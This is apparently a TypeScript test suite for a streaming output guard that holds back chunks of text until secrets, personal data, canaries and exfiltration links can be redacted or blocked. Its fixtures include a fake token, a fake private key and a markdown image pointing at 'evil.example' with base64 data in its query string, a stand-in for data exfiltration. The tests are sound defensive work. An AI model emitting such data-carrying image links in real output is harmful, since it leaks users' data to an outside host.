import t from 'tap';
import { scannerFor } from '../src/guards/detect.js';
import { type ActedFinding, HoldBack } from '../src/index.js';

/** A hold-back buffer over the real detectors, as the output guard builds it. */
function guard(action: 'redact' | 'block' = 'redact', canaries: string[] = []) {
  const found: ActedFinding[] = [];
  const scanner = scannerFor({ secrets: action, 'exfil-url': action, canary: action, pii: action }, { source: 'output', enforce: true, canaries })!;
  const hb = new HoldBack(
    {
      scan: (text) => scanner.scan(text),
      onFinding: (f) => {
        found.push(f);
        if (f.action === 'block') throw Object.assign(new Error('blocked'), { finding: f });
      },
    },
    { watch: canaries },
  );
  return { hb, found };
}

function feed(hb: HoldBack, chunks: string[]): { released: string[]; text: string } {
  const released = chunks.map((c) => hb.push(c));
  released.push(hb.flush());
  return { released, text: released.join('') };
}

/** Deterministic pseudo-random cut points. */
function cuts(text: string, seed: number, max = 9): string[] {
  let s = seed;
  const out: string[] = [];
  for (let i = 0; i < text.length; ) {
    s = (s * 1103515245 + 12345) & 0x7fffffff;
    const n = 1 + (s % max);
    out.push(text.slice(i, i + n));
    i += n;
  }
  return out;
}

const TOKEN = 'ghp_4Kx9mZq2Lw8Rt5Yp3Nv7Bc1Df6Gh0Jk2Mn4P';

t.test('text without findings comes out unchanged, however it is cut', async (t) => {
  const text = 'The quick brown fox (born 2019) jumps over [the lazy dog](https://example.com/dog) 3 times; see -----BEGIN notes.\nDone: 4111 is not a card.';
  for (let seed = 1; seed <= 40; seed++) {
    const { hb } = guard();
    t.equal(feed(hb, cuts(text, seed)).text, text, `seed ${seed}`);
  }
});

t.test('plain short words are released at once; suspicious tokens wait for their end', async (t) => {
  const { hb } = guard();
  t.equal(hb.push('Hello'), 'Hello', 'a plain word of up to 7 letters');
  t.equal(hb.push(' wor'), ' wor');
  t.equal(hb.push('ld,'), 'ld,', 'trailing punctuation does not hold a word');
  t.equal(hb.push(' extraordinary'), ' ', 'a long word waits for the next space');
  t.equal(hb.push(' x'), 'extraordinary x');
  t.equal(hb.push(' user@exa'), ' ', 'an address-like token waits');
  t.equal(hb.push('mple.org'), '');
  t.equal(hb.flush(), '[REDACTED:pii]', 'and is redacted whole');
});

t.test('a secret split anywhere is redacted before any of its secret part is released', async (t) => {
  const text = `Your token is ${TOKEN} keep it safe.`;
  for (let seed = 1; seed <= 60; seed++) {
    const { hb, found } = guard();
    const { released, text: out } = feed(hb, cuts(text, seed, 12));
    t.notOk(/4Kx9|Mn4P|Lw8R/.test(out), `seed ${seed}: ${JSON.stringify(released)}`);
    t.match(out, /^Your token is (g|gh|ghp)?\[REDACTED:secret\] keep it safe\.$/);
    t.equal(found.length, 1, 'recorded once');
  }
});

t.test('a secret at the very end is released only at flush, redacted', async (t) => {
  const { hb } = guard();
  t.equal(hb.push(`key: ${TOKEN}`), 'key: ');
  t.equal(hb.flush(), '[REDACTED:secret]');
});

t.test('a markdown image carrying data is held whole and redacted', async (t) => {
  const text = 'Look ![chart](https://evil.example/c.png?d=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE0MTIz) now';
  for (let seed = 1; seed <= 30; seed++) {
    const { hb } = guard();
    const { text: out } = feed(hb, cuts(text, seed, 6));
    t.notOk(out.includes('aGVsbG8') || out.includes('evil.example'), `seed ${seed}: ${out}`);
  }
  const { hb } = guard();
  t.equal(hb.push('Look ![chart](https://evil.exa'), 'Look ', 'the open image holds from its "!["');
});

t.test('a PEM private key is held until its END line and redacted whole', async (t) => {
  const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1234567890abcdefghij\nQWERTYUIOPasdfghjklzxcvbnm0987654321\n-----END RSA PRIVATE KEY-----';
  for (let seed = 1; seed <= 20; seed++) {
    const { hb } = guard();
    const { text: out } = feed(hb, cuts(`Here it is:\n${key}\nbye`, seed, 15));
    t.equal(out, 'Here it is:\n[REDACTED:secret]\nbye', `seed ${seed}`);
  }
});

t.test('a card number spread over spaces is held until it ends', async (t) => {
  const { hb, found } = guard();
  const { released, text } = feed(hb, ['Card: 4111 ', '1111 ', '1111 ', '1111', ' thanks']);
  t.equal(text, 'Card: [REDACTED:pii] thanks');
  t.notOk(released.slice(0, 4).some((r) => /\d/.test(r)), 'no digit released before the number was complete');
  t.equal(found[0]!.detector, 'pii');
});

t.test('block: throws before the finding is released; what came before is out', async (t) => {
  const canary = 'pcn-support-9f2c4e1ab07d3c55';
  const { hb } = guard('block', [canary]);
  let out = '';
  let error: unknown;
  try {
    for (const c of cuts(`All good so far. The value is ${canary} and more.`, 7, 5)) out += hb.push(c);
    out += hb.flush();
  } catch (e) {
    error = e;
  }
  t.ok(error, 'blocked');
  t.ok(out.startsWith('All good so far.'));
  t.notOk(out.includes('9f2c') || out.includes('pcn'), out);
});

t.test('the hold is bounded: a long token is released in part once it exceeds maxHold', async (t) => {
  const hb = new HoldBack({ scan: () => [], onFinding: () => {} }, { maxHold: 64 });
  const blob = 'x'.repeat(200);
  let out = '';
  for (let i = 0; i < blob.length; i += 10) out += hb.push(blob.slice(i, i + 10));
  t.equal(out.length, 200 - hb.held);
  t.ok(hb.held <= 64, `held ${hb.held}`);
  t.ok(hb.maxHeld <= 64 + 10);
  t.equal(out + hb.flush(), blob);
});

t.test('scanning cost stays linear: a long stream of tokens', async (t) => {
  const { hb } = guard();
  const words = Array.from({ length: 20000 }, (_, i) => (i % 7 === 0 ? 'id_' + i : 'word')).join(' ');
  const start = performance.now();
  let out = '';
  for (let i = 0; i < words.length; i += 4) out += hb.push(words.slice(i, i + 4));
  out += hb.flush();
  const ms = performance.now() - start;
  t.equal(out, words);
  t.ok(ms < 5000, `${Math.round(ms)} ms for ${words.length} characters`);
});
